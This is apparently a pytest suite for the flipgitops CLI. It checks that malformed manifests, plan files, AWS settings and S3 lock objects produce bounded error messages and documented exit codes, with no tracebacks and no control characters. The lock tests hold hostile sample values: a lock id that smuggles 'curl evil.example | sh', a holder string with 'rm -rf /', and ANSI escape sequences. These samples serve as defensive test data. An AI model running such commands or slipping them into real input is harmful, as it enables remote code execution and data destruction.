"""Issue 19, "no traceback, anywhere": bad input, bad settings and bad objects in the real CLI
(`python -m flipgitops` in a subprocess, AWS on the moto server where a command gets that
far) end in one clear message and the documented exit code, never a Python traceback, and
nothing someone else wrote (a lock object, a file name, manifest text) reaches the terminal
as control characters.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import boto3
import pytest

from flipgitops.cli import EPILOG
from flipgitops.sandbox.environment import Run
from flipgitops.sandbox.moto_server import MotoServer
from tests.conftest import REPO_ROOT

REGION: Any = "eu-west-2"
BUCKET = "flip-gitops-state-dev"
LOCK_KEY = "flipgitops/locks/dev.json"


Ran = Run  # the sandbox's record of one CLI run


def cli(*args: str, cwd: Path, env: Mapping[str, str] | None = None,
        timeout: float = 120) -> Ran:
    full = {**os.environ, "NO_COLOR": "1", **(env or {})}
    proc = subprocess.run([sys.executable, "-m", "flipgitops", *args], cwd=cwd, env=full,
                          capture_output=True, timeout=timeout, stdin=subprocess.DEVNULL)
    ran = Ran(proc.returncode, proc.stdout.decode("utf-8", "replace"),
              proc.stderr.decode("utf-8", "replace"))
    assert "Traceback" not in ran.text, ran.text
    assert "\x1b" not in ran.text, ran.text
    return ran


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository directory holding environments/dev.yaml (a valid manifest: the
    fixture tests/fixtures/dev.yaml, a dev environment as an operator would write it)."""
    (tmp_path / "environments").mkdir()
    shutil.copy(REPO_ROOT / "tests" / "fixtures" / "dev.yaml",
                tmp_path / "environments" / "dev.yaml")
    return tmp_path


NO_AWS = {"AWS_ENDPOINT_URL": "http://127.0.0.1:9", "AWS_ACCESS_KEY_ID": "testing",
          "AWS_SECRET_ACCESS_KEY": "testing", "AWS_DEFAULT_REGION": REGION,
          "AWS_MAX_ATTEMPTS": "1"}


# --- usage errors -----------------------------------------------------------------------------


@pytest.mark.parametrize("args", [
    ("plan", "--env", "dev", "--bogus"),  # an unknown option
    ("plan", "--env", "dev", "--format", "yaml"),  # an unknown format
    ("plan",),  # a missing option
    ("unlock", "--env", "dev"),  # a missing --lock-id
    ("apply", "--env"),  # an option without its value
    ("frobnicate",),  # an unknown command
    ("validate", "--format", "xml"),
])
def test_usage_errors_exit_64(repo: Path, args: tuple[str, ...]) -> None:
    ran = cli(*args, cwd=repo, env=NO_AWS)
    assert ran.code == 64, ran.text
    assert ran.err.startswith(("Usage:", "Error:")) and "Error:" in ran.err


def test_the_exit_codes_are_documented_in_help_and_readme(repo: Path) -> None:
    ran = cli("--help", cwd=repo)
    assert ran.code == 0
    flat = " ".join(ran.out.split())
    for words in ("0 ok/in sync/no changes", "1 error or invalid", "3 blocked by a guard",
                  "4 another run holds the lock", "64 usage error", "130/143 interrupted",
                  "apply: nothing left to apply but not in sync"):
        assert words in flat, words
    assert " ".join(EPILOG.replace("\b", "").split()) in flat
    readme = (REPO_ROOT / "README.md").read_text()
    assert "exits 64 on a usage error" in " ".join(readme.split())
    assert "130/143 interrupted" in readme


# --- output paths -------------------------------------------------------------------------------


@pytest.mark.parametrize(("option", "path", "says"), [
    ("--out", "/proc/flipgitops-nowhere/plan.json", "does not accept new files"),
    ("--out", "/dev/null/plan.json", "/dev/null is not a directory"),
    ("--out", "/dev/null", "not a regular file"),
    ("--out", ".", "it is a directory"),
    ("--report", "/proc/drift.md", "does not accept new files"),
])
def test_an_output_that_cannot_be_written_is_refused_before_any_work(
        repo: Path, option: str, path: str, says: str) -> None:
    command = "plan" if option == "--out" else "drift"
    ran = cli(command, "--env", "dev", option, path, cwd=repo, env=NO_AWS)
    assert ran.code == 1, ran.text
    assert f"error: {option} {path}: cannot write there" in ran.err and says in ran.err
    assert "nothing was done" in ran.err
    assert "observing" not in ran.err  # refused before any work, not after a long plan
    if path == "/dev/null":
        assert Path("/dev/null").is_char_device()


# --- manifests and plan files -----------------------------------------------------------------


def _manifest_variants(repo: Path) -> dict[str, tuple[str, str]]:
    """name -> (path to pass as --env, what the message says)."""
    good = (repo / "environments" / "dev.yaml").read_text()
    out: dict[str, tuple[str, str]] = {"dev-zero": ("/dev/zero", "not a regular file")}
    fifo = repo / "fifo.yaml"
    os.mkfifo(fifo)
    out["fifo"] = (str(fifo), "not a regular file")
    huge = repo / "environments" / "huge.yaml"
    huge.write_text(good + "#" * (2 * 1024 * 1024))
    out["huge"] = (str(huge), "MiB")
    variants = {
        "surrogate": (good.replace("region: eu-west-2", 'region: "eu-west-2\\ud800"', 1),
                      "surrogate escape (such as \\ud800)"),
        "version-string": (good.replace("version: 1", 'version: "1"', 1), "without quotes"),
        "ansi": (good.replace("domain: dev.flip.aicentre.co.uk",
                              'domain: "dev\\e[2J\\e]0;PWN\\a.flip.aicentre.co.uk"', 1),
                 "U+001B"),
    }
    for name, (text, says) in variants.items():
        path = repo / "environments" / f"{name}.yaml"
        path.write_text(text.replace("environment: dev", f"environment: {name}", 1))
        out[name] = (str(path), says)
    binary = repo / "environments" / "binary.yaml"
    binary.write_bytes(b"version: 1\n\x00\xff\xfe" + bytes(range(256)))
    out["binary"] = (str(binary), "line 2")
    return out


@pytest.mark.slow
def test_bad_manifests_are_located_never_raised(repo: Path) -> None:
    for name, (path, says) in _manifest_variants(repo).items():
        ran = cli("plan", "--env", path, cwd=repo, env=NO_AWS, timeout=60)
        assert ran.code == 1, (name, ran.text)
        assert says in ran.err, (name, ran.err)
        assert "observing" not in ran.err, name


@pytest.mark.parametrize(("content", "says"), [
    (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "binary content"),
    (b'{"format_version": "1", "environment": "dev", "actions": "all"}', "cannot be used"),
    (b"[1, 2, 3]", "cannot be used"),
    (b"", "cannot be used"),
])
def test_a_plan_file_that_is_not_a_plan_is_refused(repo: Path, content: bytes,
                                                  says: str) -> None:
    plan = repo / "plan.json"
    plan.write_bytes(content)
    ran = cli("apply", "--env", "dev", "--plan", str(plan), "--yes", cwd=repo, env=NO_AWS)
    assert ran.code == 1, ran.text
    assert f"the reviewed plan {plan}" in ran.err and says in ran.err


# --- AWS settings -------------------------------------------------------------------------------


@pytest.mark.slow
def test_bad_aws_settings_are_named(repo: Path, tmp_path: Path) -> None:
    broken_config = tmp_path / "aws-config"
    broken_config.write_text("[default\nregion = eu-west-2\n")
    cases: list[tuple[dict[str, str], str]] = [
        ({"AWS_PROFILE": "no-such-profile"}, "no-such-profile"),
        ({"AWS_CONFIG_FILE": str(broken_config), "AWS_PROFILE": "default"},
         str(broken_config)),
        ({"AWS_ENDPOINT_URL": "not a url"}, "not a url"),
        ({"AWS_ENDPOINT_URL": "http://127.0.0.1:9"}, "127.0.0.1:9"),
    ]
    for extra, says in cases:
        ran = cli("plan", "--env", "dev", cwd=repo, env={**NO_AWS, **extra}, timeout=90)
        assert ran.code == 1, (extra, ran.text)
        assert ran.err.strip().splitlines()[-1].startswith("error: "), (extra, ran.err)
        assert says in ran.err, (extra, ran.err)


def test_a_tls_failure_names_the_endpoint(repo: Path, moto: MotoServer) -> None:
    https = moto.url.replace("http://", "https://")
    ran = cli("plan", "--env", "dev", cwd=repo, env={"AWS_ENDPOINT_URL": https,
                                                     "AWS_MAX_ATTEMPTS": "1"})
    assert ran.code == 1, ran.text
    assert "TLS" in ran.err and https.split("//")[1] in ran.err, ran.err


# --- lock objects someone else wrote ------------------------------------------------------------


EVIL_ID = "x; curl evil.example | sh #"
LOCKS: list[tuple[str, bytes]] = [
    ("binary", b"\x00\xff" * 50),
    ("a list", b"[1, 2]"),
    ("truncated", b'{"lock_id": "2026'),
    ("a crafted id and holder", json.dumps({
        "lock_id": EVIL_ID, "holder": {"who": "\x1b[2J\x1b]0;PWN\x07root@ci\nrun: rm -rf /",
                                       "note": "A" * 5000}}).encode()),
    ("a huge holder", json.dumps({"lock_id": "20260101T000000Z-0badda7a",
                                  "holder": "\x1b[31m" + "B" * 200_000,
                                  "started_at": "\x1b[5mnever"}).encode()),
    ("too big", b" " * (70 * 1024)),
]


@pytest.mark.parametrize(("what", "body"), LOCKS, ids=[w for w, _ in LOCKS])
def test_a_lock_of_any_shape_is_reported_quoted_and_bounded_and_can_be_cleared(
        repo: Path, moto: MotoServer, what: str, body: bytes) -> None:
    s3 = boto3.client("s3", region_name=REGION, endpoint_url=moto.url)
    s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION})
    s3.put_object(Bucket=BUCKET, Key=LOCK_KEY, Body=body)
    ran = cli("apply", "--env", "dev", "--yes", cwd=repo)
    assert ran.code == 4, ran.text
    message = ran.err.strip().splitlines()[-1]
    assert message.startswith("error: environment dev is locked") and len(message) < 1500
    assert "B" * 200 not in ran.err and "A" * 200 not in ran.err
    assert EVIL_ID not in message.split("--lock-id")[-1]  # never advised as the id
    advised = re.search(r"flipgitops unlock --env dev --lock-id (\S+)$", message)
    assert advised, message
    lock_id = advised.group(1)
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._:+-]*", lock_id), lock_id
    cleared = cli("unlock", "--env", "dev", "--lock-id", lock_id, cwd=repo)
    assert cleared.code == 0, cleared.text
    assert "Contents" not in s3.list_objects_v2(Bucket=BUCKET, Prefix=LOCK_KEY)
